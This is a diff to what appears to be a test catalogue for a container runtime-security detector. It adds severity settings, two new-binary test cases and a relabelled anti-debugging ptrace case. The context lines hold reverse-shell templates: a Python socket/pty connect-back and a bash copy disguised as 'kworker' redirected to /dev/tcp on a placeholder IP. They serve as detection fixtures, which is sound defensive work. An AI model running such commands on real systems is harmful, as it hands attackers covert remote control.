@@ -59,6 +59,7 @@ class Behaviour:
         privileged: container with everything.
         capabilities: granted to the container besides the usual ones.
         mounts: further OCI mounts of the container.
+        severity: the finding's severity, where it differs from its type's usual one.
         look_alike: for an ordinary behaviour: the finding type that it resembles.
     """
 
@@ -75,6 +76,7 @@ class Behaviour:
     mounts: tuple[Mapping[str, Any], ...] = field(default=())
     look_alike: str = ""
     timeout_s: float = 15
+    severity: float | None = None
 
 
 def sh(script: str) -> tuple[str, ...]:
@@ -85,7 +87,8 @@ def sh(script: str) -> tuple[str, ...]:
 def _reverse_shells() -> list[Behaviour]:
     def one(name: str, title: str, command: tuple[str, ...], **options: Any) -> Behaviour:
         options.setdefault("listener", "shell")
-        return Behaviour(f"reverse-shell-{name}", title, command, (REVERSE_SHELL,), **options)
+        options.setdefault("findings", (REVERSE_SHELL,))
+        return Behaviour(f"reverse-shell-{name}", title, command, **options)
 
     python = "import socket,os,subprocess,pty\ns=socket.socket({family});s.connect(('{address}',{{port}}))\n"
     python4 = python.format(family="", address="{ip}")
@@ -102,6 +105,7 @@ def _reverse_shells() -> list[Behaviour]:
                 "cp /bin/bash {dir}/kworker; exec {dir}/kworker -c 'exec {dir}/kworker -i >& /dev/tcp/{ip}/{port} 0>&1'"
             ),
             where="host",
+            findings=(REVERSE_SHELL, NEW_BINARY),
             executable="kworker",
         ),
         one(
@@ -420,6 +424,24 @@ def _new_binaries() -> list[Behaviour]:
             where="host",
             executable=".vedette-x",
         ),
+        one(
+            "dpkg",
+            "a package installed in a running container: low, and said",
+            "mkdir -p {dir}/p/DEBIAN {dir}/p/usr/bin; cp {bin}/quiet {dir}/p/usr/bin/vedette-tool; "
+            "printf 'Package: vedette-tool\\nVersion: 1\\nArchitecture: all\\nMaintainer: x <x@vedette.example>\\n"
+            "Description: x\\n' > {dir}/p/DEBIAN/control; dpkg-deb --build {dir}/p {dir}/p.deb; dpkg -i {dir}/p.deb; "
+            "/usr/bin/vedette-tool",
+            executable="vedette-tool",
+            severity=2.0,
+        ),
+        one(
+            "linked-here",
+            "a program assembled and linked in a running container: low, and said",
+            "cd {dir} && printf '.globl _start\\n_start: mov $60,%%eax\\n xor %%edi,%%edi\\n syscall\\n' > m.s && "
+            "as -o m.o m.s && ld -o m m.o && ./m",
+            executable="m",
+            severity=2.0,
+        ),
         ordinary("image", "a program of the image", "/bin/true; {bin}/quiet"),
         ordinary("chmod", "an image program whose mode was changed", "chmod 0711 /usr/bin/env && /usr/bin/env true"),
         ordinary("entrypoint", "an entry point writes configuration", "{bin}/entrypoint.sh"),
@@ -520,7 +542,7 @@ def _injection() -> list[Behaviour]:
         one("attach-pokedata", INJECTION_PTRACE, "ptrace attach and pokedata"),
         one("attach-setregs", INJECTION_PTRACE, "ptrace attach and setregs"),
         one("seize-setregset", INJECTION_PTRACE, "ptrace seize and setregset"),
-        one("peekuser", INJECTION_PTRACE, "traceme by a child, peekuser and detach by its parent"),
+        one("peekuser", ANTI_DEBUGGING, "a child asks to be traced by its own program: nobody else can then"),
         one("vm-write", INJECTION_VM, "process_vm_writev"),
         one("vm-write-fault", INJECTION_VM, "process_vm_writev that fails with EFAULT"),
         Behaviour(
